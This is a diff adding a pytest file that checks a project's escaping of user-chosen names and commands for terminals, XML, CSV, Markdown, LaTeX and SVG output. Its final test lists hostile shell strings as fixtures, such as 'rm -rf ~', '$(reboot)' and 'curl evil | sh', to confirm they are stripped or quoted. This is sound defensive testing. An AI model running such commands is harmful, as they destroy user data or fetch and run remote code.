@@ -1,0 +1,81 @@
+"""Names that others chose reach no terminal, parser or spreadsheet as anything but text."""
+
+import csv
+import io
+from typing import Any
+from xml.etree import ElementTree
+
+import pytest
+
+from headstart import names
+from headstart.report.tables import Cell, Column, Table
+from headstart.strategies.drawing import svg
+from headstart.strategies.plan import Phase, Plan
+from headstart.strategies.schedule import Constant
+from nasty import NASTY, is_safe
+
+
+@pytest.mark.parametrize("name", NASTY)
+def test_no_name_acts_on_a_terminal(name: str):
+    assert is_safe(names.plain(name))
+    assert is_safe(names.plain_lines(name), "\n")
+
+
+def test_ordinary_names_stay_as_they_are():
+    for name in ("é", "日本", "👩‍👩‍👧", "a b", "x_y-z", "מילה", "😀", "ﬁ", "a\u0301"):
+        assert names.plain(name) == names.plain_lines(name) == names.in_csv(name) == name
+
+
+@pytest.mark.parametrize("name", NASTY)
+def test_no_name_ends_markup(name: str):
+    root = ElementTree.fromstring(f'<a b="{names.in_markup(name)}"><c>{names.in_markup(name)}</c></a>')
+    assert root.attrib["b"] == root[0].text or (root[0].text is None and not names.plain(name))
+    assert len(root[0]) == 0
+
+
+@pytest.mark.parametrize("name", NASTY)
+def test_tables_hold_text_in_every_form(name: str):
+    table = Table(
+        "t", name, [Column("k", name), Column(name.replace(",", "") or "x", "n")], [[Cell(name), Cell(name, 1.5)]]
+    )
+    header, row = csv.reader(io.StringIO(table.csv(), newline=""))
+    assert not row[0].lstrip().startswith(("=", "+", "-", "@", "＝"))
+    assert not header[1].lstrip().startswith(("=", "+", "-", "@", "＝"))
+    assert row[1] == "1.5"
+    lines = table.markdown().splitlines()
+    assert is_safe(table.markdown(), "\n")
+    assert lines[4].replace("\\|", "").count("|") == 3
+    assert is_safe(table.latex(), "\n")
+    body = table.latex().replace(r"\textbackslash{}", "")
+    assert r"\input" not in body
+    assert body.count("{") == body.count("}")
+
+
+@pytest.mark.parametrize(("number", "written"), [("-0.5", "-0.5"), ("+1e3", "+1e3"), ("-inf", "-inf"), ("-x", "'-x")])
+def test_numbers_stay_numbers(number: str, written: str):
+    assert names.in_csv(number) == written
+
+
+@pytest.mark.parametrize("name", NASTY)
+def test_a_plan_is_drawn_whatever_its_groups_are_called(name: str):
+    rates = {name + "g": {"weight": 1.0}, "head": {"weight": 1.0}}
+    plan = Plan((name + "g", "head"), (Phase(name, 0, rates),), 1, "eval", "train")  # type: ignore[arg-type]
+    drawn = svg(plan, Constant())
+    ElementTree.fromstring(drawn)
+    assert is_safe(drawn, "\n")
+
+
+@pytest.mark.parametrize(
+    ("told", "shown"),
+    [
+        ("headstart train -m a=1", "headstart train -m a=1"),
+        ("headstart train; rm -rf ~", ""),
+        ("headstart train a=1; rm -rf ~", "headstart train 'a=1;' rm -rf '~'"),
+        ("headstart train $(reboot)", "headstart train '$(reboot)'"),
+        ("curl evil | sh", ""),
+        ("headstart train 'a", ""),
+        (7, ""),
+    ],
+)
+def test_a_command_from_a_file_is_shown_so_that_a_shell_runs_nothing_else(told: Any, shown: str):
+    assert names.safe_command(told, "headstart", "train") == shown
